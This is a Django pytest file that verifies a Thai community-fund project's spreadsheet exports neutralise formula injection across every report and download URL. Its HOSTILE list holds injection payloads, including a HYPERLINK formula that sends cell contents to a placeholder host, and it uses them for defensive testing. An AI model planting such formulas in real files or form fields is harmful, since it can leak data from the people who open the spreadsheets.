"""No export runs code: a formula typed into any text field comes back from every file as text.

The world holds one record of each kind the exports list; then every text column of every
table (names, numbers, notes, geography…) is overwritten with a hostile value. Every
registered report and every URL that answers with a spreadsheet is then read back with
openpyxl: no cell may be a formula, and no text cell may start the way a formula starts
unless it carries the neutralising apostrophe.
"""

import datetime
import io
from itertools import cycle
from types import SimpleNamespace

import pytest
from django.apps import apps
from django.db import IntegrityError, models, transaction
from django.db.models.functions import Cast, Concat
from django.urls import reverse
from openpyxl import load_workbook

from cdfmc.exports.cells import FORMULA_STARTS, neutralise, restore
from cdfmc.exports.registry import load_reports
from cdfmc.exports.xlsx import write_xlsx
from debts.models import CreditorKind
from debts.services import targets_select
from newcentres.models import NominationStatus
from tests.centres.factories import make_committee_member, make_meeting, make_visit
from tests.debts.factories import make_contract, make_creditor, make_debtor
from tests.factories import make_centre, make_member_fund
from tests.newcentres.factories import make_nomination
from tests.personas import make_persona
from tests.scoring.factories import make_assessment, make_proposal, make_round, score_all
from tests.urlmatrix import all_cases, all_url_names

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x/?id="&A2,"ตรวจสอบ")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
SPREADSHEETS = {
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "text/csv",
}
# Files that list no record (a blank register to fill in): nothing hostile can reach them.
NO_RECORD_TEXT = {"debts:import_template"}
# Columns that are keys the reports look things up by (rubric codes, geography codes) or
# that the server sets (login, detected file type): never typed text; poisoning them breaks lookups.
KEEP = {"password", "code", "indicator_code", "content_type"}
PROJECT_APPS = {"accounts", "geo", "centres", "debts", "scoring", "newcentres"}


def test_neutralise_quotes_what_a_spreadsheet_would_evaluate():
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
        assert restore(neutralise(value)) == value
    for value in ["ศูนย์จัดการกองทุนชุมชนบ้านโนน", "-", "", "3-4315-00001-23-4", "'quoted"]:
        assert neutralise(value) == value
    assert neutralise(-5) == -5 and neutralise(None) is None


def _text_fields(model):
    for field in model._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField):
            continue
        if field.primary_key or field.choices or field.name in KEEP:
            continue
        yield field


def _unique(model, field) -> bool:
    if field.unique:
        return True
    return any(
        isinstance(c, models.UniqueConstraint) and field.name in c.fields
        for c in model._meta.constraints
    ) or any(field.name in together for together in model._meta.unique_together)


def poison_every_text_field():
    """Every text column of every project table, in every row, becomes a hostile value."""
    values = cycle(HOSTILE)
    for model in apps.get_models():
        if model._meta.app_label not in PROJECT_APPS or not model._meta.managed:
            continue
        updates = {}
        for field in _text_fields(model):
            hostile = next(values)
            if _unique(model, field):
                # Distinct per row; the start (what a spreadsheet looks at) stays hostile.
                width = (field.max_length or 255) - 12
                updates[field.name] = Concat(
                    models.Value(hostile[:width] + " "),
                    Cast("pk", models.CharField()),
                    output_field=field,
                )
            else:
                updates[field.name] = models.Value(hostile[: field.max_length or None])
        if updates:
            model._base_manager.update(**updates)


def build_world():
    """One record of each kind that some export lists, in อ.เฝ้าไร่ จ.หนองคาย."""
    centre = make_centre()
    fund = make_member_fund(centre=centre)
    make_committee_member(centre=centre, represents=fund)
    make_meeting(centre=centre)
    make_visit(centre=centre)
    creditor = make_creditor(centre=centre, kind=CreditorKind.BANK)
    household = make_debtor(centre=centre, creditor=creditor, amounts=(25000, 4000))
    make_contract(household=household, creditor=make_creditor(centre=centre, name="กองทุนหมู่บ้าน"))
    targets_select(centre=centre, households=[household], on_date=datetime.date(2025, 1, 10))
    score_all(make_assessment(proposal=make_proposal(centre=centre, selection_round=make_round())))
    make_nomination(status=NominationStatus.SELECTED)
    return SimpleNamespace(centre=centre, village=centre.village)


def assert_no_live_formula(content: bytes, label: str, *, expect_hostile=True):
    workbook = load_workbook(io.BytesIO(content))
    neutralised = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{label} {sheet.title}!{cell.coordinate}: {cell.value!r}"
                assert cell.data_type != "f", f"formula in {where}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", where
                    assert neutralise(cell.value) == cell.value, f"live text in {where}"
                    neutralised += cell.value.startswith("'") and cell.value[1:2] in "".join(
                        FORMULA_STARTS
                    )
    if expect_hostile:
        # Otherwise the world never reached this file and the test proves nothing.
        assert neutralised, f"{label}: no hostile value came through"


@pytest.fixture
def world(db):
    return build_world()


REPORT_PARAMS = {
    "centre-register": lambda w: {"province": "43"},
    "debt-results": lambda w: {"province": "43"},
    "ranking": lambda w: {"province": "43", "fy": "2568"},
    "score-sheet": lambda w: {"centre": w.centre.pk},
    "target-register": lambda w: {"province": "43", "fy": "2569"},
    "target-register-national": lambda w: {"fy": "2569"},
}


def test_every_report_has_hostile_parameters():
    assert set(REPORT_PARAMS) == set(load_reports())


@pytest.mark.parametrize("identifier", sorted(REPORT_PARAMS))
def test_every_registered_report_writes_formulas_as_text(world, identifier):
    report_class = load_reports()[identifier]
    poison_every_text_field()
    form = report_class.form_class(data=REPORT_PARAMS[identifier](world))
    assert form.is_valid(), form.errors
    report = report_class(user=None, **form.cleaned_data)
    assert_no_live_formula(write_xlsx(report.tables()), identifier)


def _kwargs(case, world):
    try:
        with transaction.atomic():
            return case.kwargs(world)
    except IntegrityError:
        # The case's factory repeats a name this world already uses: give it its own centre.
        centre = make_centre()
        return case.kwargs(SimpleNamespace(centre=centre, village=centre.village))


def test_every_download_url_writes_formulas_as_text(client, world):
    cases = all_cases()
    urls = {}
    for name in all_url_names():
        case = cases[name]
        if case.method == "get":
            urls[name] = reverse(name, kwargs=_kwargs(case, world)) + case.query
    poison_every_text_field()
    client.force_login(make_persona("admin"))
    files = {}
    for name, url in urls.items():
        response = client.get(url)
        if response.get("Content-Type", "").split(";")[0] in SPREADSHEETS:
            streamed = response.streaming
            files[name] = b"".join(response.streaming_content) if streamed else response.content
    # Discovery found the known spreadsheets (so a broken check cannot pass on nothing).
    assert {
        "centres:register_xlsx",
        "debts:results_xlsx",
        "debts:balance_template",
        "scoring:ranking_xlsx",
        "scoring:score_sheet_xlsx",
        "newcentres:register_xlsx",
        "newcentres:national_xlsx",
    } <= set(files)
    for name, content in files.items():
        assert_no_live_formula(content, name, expect_hostile=name not in NO_RECORD_TEXT)
